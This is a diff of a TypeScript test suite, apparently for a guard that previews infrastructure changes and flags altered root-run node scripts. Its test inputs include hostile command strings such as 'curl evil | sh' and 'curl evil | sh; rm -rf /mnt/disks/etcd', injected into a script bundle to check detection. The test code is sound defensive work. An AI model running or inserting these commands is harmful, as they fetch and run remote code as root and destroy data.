@@ -3,7 +3,7 @@ import { vmGateScript } from "../../../components/vmChain";
 import { type NodeFile, renderNodeBundle } from "../../../core/node/nodeBundle";
 import { renderPhase } from "../../../core/node/phases";
 import { judgePreview, renderMarkdown } from "../../../guard";
-import type { PreviewStep } from "../../../guard/preview";
+import { type PreviewStep, UNKNOWN_VALUE } from "../../../guard/preview";
 import { converge, preview, stack, step, wholeMember } from "./steps";
 
 const ETCD_ENV = "ETCD_LOGGER=zap\n";
@@ -43,12 +43,23 @@ describe("scripts that run as root", () => {
     [
       "another program in place of the bundle",
       "curl evil | sh; rm -rf /mnt/disks/etcd",
-      "hidden in the preview",
+      "not as this program writes them",
     ],
-    ["a line before the bundle", `curl evil | sh\n${SENT}`, "hidden in the preview"],
-    ["a line after it", `${SENT}curl evil | sh\n`, "hidden in the preview"],
-    ["another command in it", SENT.replace(COMMAND, `${COMMAND}; curl evil | sh`), "hidden in the preview"],
+    ["a line before the bundle", `curl evil | sh\n${SENT}`, "changed: what puts them in place"],
+    ["a line after it", `${SENT}curl evil | sh\n`, "not as this program writes them"],
+    [
+      "another command in it",
+      SENT.replace(COMMAND, `${COMMAND}; curl evil | sh`),
+      "not as this program writes them",
+    ],
+    [
+      "a file twice",
+      SENT.replace(/^put .*^__END_OF_NODE_FILE__\n/ms, (files) => `${files}${files}`),
+      "not as this program writes them",
+    ],
     ["a secret", "[secret]", "hidden in the preview"],
+    ["a value that is not known yet", UNKNOWN_VALUE, "hidden in the preview"],
+    ["nothing", undefined, "hidden in the preview"],
     [
       "one file more",
       renderNodeBundle(
@@ -62,6 +73,24 @@ describe("scripts that run as root", () => {
     expect(report.class).toBe("rolling");
     expect(report.rows.map(({ what }) => what)).toEqual(all.map(() => expect.stringContaining(said)));
     expect(renderMarkdown(report)).not.toContain("does not notice");
+  });
+
+  test.each([
+    ["[secret]", "hidden in the state"],
+    ["echo", "not as this program writes them"],
+  ])("after %j", (before, said) => {
+    expect(judge(install(1, before, SENT)).rows.map(({ what }) => what)).toEqual([
+      `scripts that run as root, ${said}`,
+    ]);
+  });
+
+  test("a script that the state does not have", () => {
+    const report = judge(
+      step("create", "command", "member-1-install", { new: { create: "sudo bash -s", stdin: SENT } }),
+    );
+    expect(report.rows.map(({ what }) => what)).toEqual([
+      "scripts that run as root, sent for the first time",
+    ]);
   });
 
   const withChanges = (name: string, change: Partial<NodeFile> | ((content: string) => string)) =>
